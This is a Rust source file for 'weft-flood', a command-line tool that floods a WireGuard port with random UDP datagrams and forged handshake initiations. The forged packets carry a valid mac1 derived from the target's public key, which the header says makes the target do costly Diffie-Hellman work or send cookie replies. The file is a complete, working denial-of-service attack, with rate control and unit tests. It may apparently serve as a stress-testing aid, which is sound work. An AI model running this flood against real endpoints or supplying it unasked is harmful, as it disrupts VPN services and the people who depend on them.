//! weft-flood: hostile traffic toward a WireGuard listen port.
//!
//! Sends N random UDP datagrams (random sizes 1..=1500) and M forged handshake
//! initiations (148 bytes, type 1, random sender index/ephemeral/encrypted
//! fields, a *valid* mac1 for the target's public key, mac2 zero) as fast as it
//! can, or at `--rate` datagrams per second. Valid mac1 means the target cannot
//! drop them on the cheap check: it has to do the DH work (or answer with a cookie).
//!
//! ```text
//! weft-flood --target 203.0.113.2:51820 --random 100000 --initiations 10000 \
//!            --pubkey <base64 public key> [--rate PPS] [--seed N]
//! ```

use std::net::{SocketAddr, UdpSocket};
use std::process::ExitCode;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use blake2::digest::consts::U16;
use blake2::digest::{Digest, KeyInit, Mac};
use blake2::{Blake2s256, Blake2sMac};

const INITIATION_LEN: usize = 148;
const MAC1_OFFSET: usize = 116;
const LABEL_MAC1: &[u8] = b"mac1----";

struct Args {
    target: SocketAddr,
    random: u64,
    initiations: u64,
    pubkey: Option<[u8; 32]>,
    rate: Option<u64>,
    seed: u64,
}

fn usage() -> String {
    "usage: weft-flood --target IP:PORT [--random N] [--initiations M] [--pubkey BASE64] [--rate PPS] [--seed N]"
        .to_string()
}

fn parse_args() -> Result<Args, String> {
    let mut target = None;
    let mut random = 0;
    let mut initiations = 0;
    let mut pubkey = None;
    let mut rate = None;
    let mut seed = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or(1)
        ^ u64::from(std::process::id());
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut val = || {
            it.next()
                .ok_or_else(|| format!("{flag} needs a value\n{}", usage()))
        };
        match flag.as_str() {
            "--target" => {
                let v = val()?;
                target = Some(v.parse().map_err(|e| format!("--target {v}: {e}"))?);
            }
            "--random" => random = num(&flag, &val()?)?,
            "--initiations" => initiations = num(&flag, &val()?)?,
            "--rate" => rate = Some(num(&flag, &val()?)?).filter(|r| *r > 0),
            "--seed" => seed = num(&flag, &val()?)?,
            "--pubkey" => {
                let v = val()?;
                let bytes = base64_decode(&v).ok_or_else(|| format!("--pubkey {v}: not base64"))?;
                let key: [u8; 32] = bytes
                    .try_into()
                    .map_err(|_| format!("--pubkey {v}: not 32 bytes"))?;
                pubkey = Some(key);
            }
            "-h" | "--help" => return Err(usage()),
            other => return Err(format!("unknown argument {other}\n{}", usage())),
        }
    }
    let target = target.ok_or_else(usage)?;
    if initiations > 0 && pubkey.is_none() {
        return Err("--initiations needs --pubkey (mac1 is keyed by it)".to_string());
    }
    Ok(Args {
        target,
        random,
        initiations,
        pubkey,
        rate,
        seed: seed | 1,
    })
}

fn num(flag: &str, v: &str) -> Result<u64, String> {
    v.parse().map_err(|e| format!("{flag} {v}: {e}"))
}

/// Standard base64 (with or without padding).
fn base64_decode(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.trim().bytes().take_while(|&c| c != b'=') {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    Some(out)
}

/// xorshift64*: fast, good enough for junk.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let v = self.next().to_le_bytes();
            chunk.copy_from_slice(&v[..chunk.len()]);
        }
    }
}

/// mac1 key: BLAKE2s-256("mac1----" || responder public key).
fn mac1_key(pubkey: &[u8; 32]) -> [u8; 32] {
    let mut h = Blake2s256::new();
    h.update(LABEL_MAC1);
    h.update(pubkey);
    h.finalize().into()
}

/// A forged initiation: type 1, random body, valid mac1, zero mac2.
fn forge_initiation(rng: &mut Rng, key: &[u8; 32], msg: &mut [u8; INITIATION_LEN]) {
    rng.fill(&mut msg[4..MAC1_OFFSET]);
    msg[..4].copy_from_slice(&[1, 0, 0, 0]);
    let mut mac = <Blake2sMac<U16> as KeyInit>::new_from_slice(key).expect("32-byte BLAKE2s key");
    mac.update(&msg[..MAC1_OFFSET]);
    let tag = mac.finalize().into_bytes();
    msg[MAC1_OFFSET..MAC1_OFFSET + 16].copy_from_slice(&tag);
    msg[MAC1_OFFSET + 16..].fill(0);
}

struct Pacer {
    start: Instant,
    rate: Option<u64>,
}

impl Pacer {
    fn wait(&self, sent: u64) {
        if let Some(rate) = self.rate {
            let due = Duration::from_secs_f64(sent as f64 / rate as f64);
            let el = self.start.elapsed();
            if due > el {
                std::thread::sleep(due - el);
            }
        }
    }
}

fn run(args: &Args) -> std::io::Result<(u64, u64, u64)> {
    let bind: SocketAddr = if args.target.is_ipv6() {
        "[::]:0".parse().expect("literal")
    } else {
        "0.0.0.0:0".parse().expect("literal")
    };
    let sock = UdpSocket::bind(bind)?;
    let mut rng = Rng(args.seed);
    let pacer = Pacer {
        start: Instant::now(),
        rate: args.rate,
    };
    let key = args.pubkey.map(|k| mac1_key(&k));
    let mut junk = [0u8; 1500];
    let mut init = [0u8; INITIATION_LEN];
    let (mut random_sent, mut init_sent, mut errors) = (0u64, 0u64, 0u64);
    let total = args.random + args.initiations;
    for i in 0..total {
        pacer.wait(i);
        // Interleave: an initiation every (total / initiations) datagrams.
        let want_init = args.initiations > 0
            && (init_sent * total <= i * args.initiations || random_sent >= args.random);
        let res = if want_init && init_sent < args.initiations {
            init_sent += 1;
            forge_initiation(
                &mut rng,
                key.as_ref().expect("checked in parse_args"),
                &mut init,
            );
            sock.send_to(&init, args.target)
        } else {
            random_sent += 1;
            let len = 1 + (rng.next() % 1500) as usize;
            rng.fill(&mut junk[..len]);
            sock.send_to(&junk[..len], args.target)
        };
        if res.is_err() {
            // ICMP unreachable from an earlier datagram, ENOBUFS: keep going.
            errors += 1;
        }
    }
    Ok((random_sent, init_sent, errors))
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{e}");
            return ExitCode::from(2);
        }
    };
    let start = Instant::now();
    match run(&args) {
        Ok((r, i, errors)) => {
            println!(
                "sent random={r} initiations={i} send_errors={errors} to {} in {:.3}s",
                args.target,
                start.elapsed().as_secs_f64()
            );
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_roundtrip_of_a_wireguard_key() {
        // 32 zero bytes.
        let k = base64_decode("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=").expect("base64");
        assert_eq!(k, vec![0u8; 32]);
        assert!(base64_decode("not*base64").is_none());
    }

    #[test]
    fn forged_initiation_has_wire_shape() {
        let mut rng = Rng(7);
        let mut msg = [0u8; INITIATION_LEN];
        let key = mac1_key(&[9u8; 32]);
        forge_initiation(&mut rng, &key, &mut msg);
        assert_eq!(&msg[..4], &[1, 0, 0, 0]);
        assert_eq!(&msg[132..], &[0u8; 16]);
        let mut mac = <Blake2sMac<U16> as KeyInit>::new_from_slice(&key).expect("key");
        mac.update(&msg[..MAC1_OFFSET]);
        mac.verify_slice(&msg[MAC1_OFFSET..MAC1_OFFSET + 16])
            .expect("mac1 verifies");
    }
}
